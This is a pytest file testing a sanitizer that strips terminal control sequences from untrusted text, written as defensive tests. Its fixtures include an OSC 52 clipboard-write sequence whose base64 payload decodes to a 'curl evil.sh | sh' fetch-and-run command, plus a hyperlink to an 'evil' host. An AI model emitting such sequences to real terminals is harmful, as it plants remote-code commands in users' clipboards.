"""Untrusted text is stripped of terminal control sequences before it reaches a terminal."""

from __future__ import annotations

import io
import json

import pytest

from codemode_tui.terminal_text import SanitizingWriter, escape_c1, strip_controls

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        (f"before{CLIPBOARD}after\n", "beforeafter\n"),  # OSC 52 clipboard write, BEL-terminated
        ("\x1b]52;c;aGk=\x1b\\ok", "ok"),  # OSC 52, ST-terminated
        ("\x1b]0;pwned title\x07done", "done"),  # window title
        ("\x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\", "link"),  # hyperlink
        ("\x1b[2J\x1b[Hclean", "clean"),  # clear screen, cursor home
        ("ok\x1b[1A\x1b[2Kfine", "okfine"),  # cursor up, erase line
        ("\x1b[31mred\x1b[0m", "red"),  # colours too: the text is what counts
        ("\x9b2J\x9d0;title\x9cx", "x"),  # 8-bit CSI and OSC
        ("\x1bPq#0;2;0;0;0\x1b\\img", "img"),  # DCS (sixel)
        ("\x1bcreset", "reset"),  # full reset
        ("a\rb\r\nc\x08d\x00e\x07f\x7f", "ab\ncdef"),
        ("tab\tand\nnewline stay; ünïcödé 字 too", "tab\tand\nnewline stay; ünïcödé 字 too"),
        ("\x1b]52;c;unterminated", ""),
    ],
)
def test_strip_controls(raw: str, clean: str) -> None:
    assert strip_controls(raw) == clean


def test_a_sequence_split_across_writes_does_not_survive() -> None:
    out = io.StringIO()
    writer = SanitizingWriter(out)
    for part in ("\x1b", "]52;c;aGk=", "\x07", "text\n"):
        writer.write(part)
    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue()
    assert out.getvalue().endswith("text\n")


def test_escape_c1_keeps_json_data() -> None:
    text = json.dumps({"out": "a\x9b2Jb"}, ensure_ascii=False)
    safe = escape_c1(text)
    assert "\x9b" not in safe and json.loads(safe) == {"out": "a\x9b2Jb"}
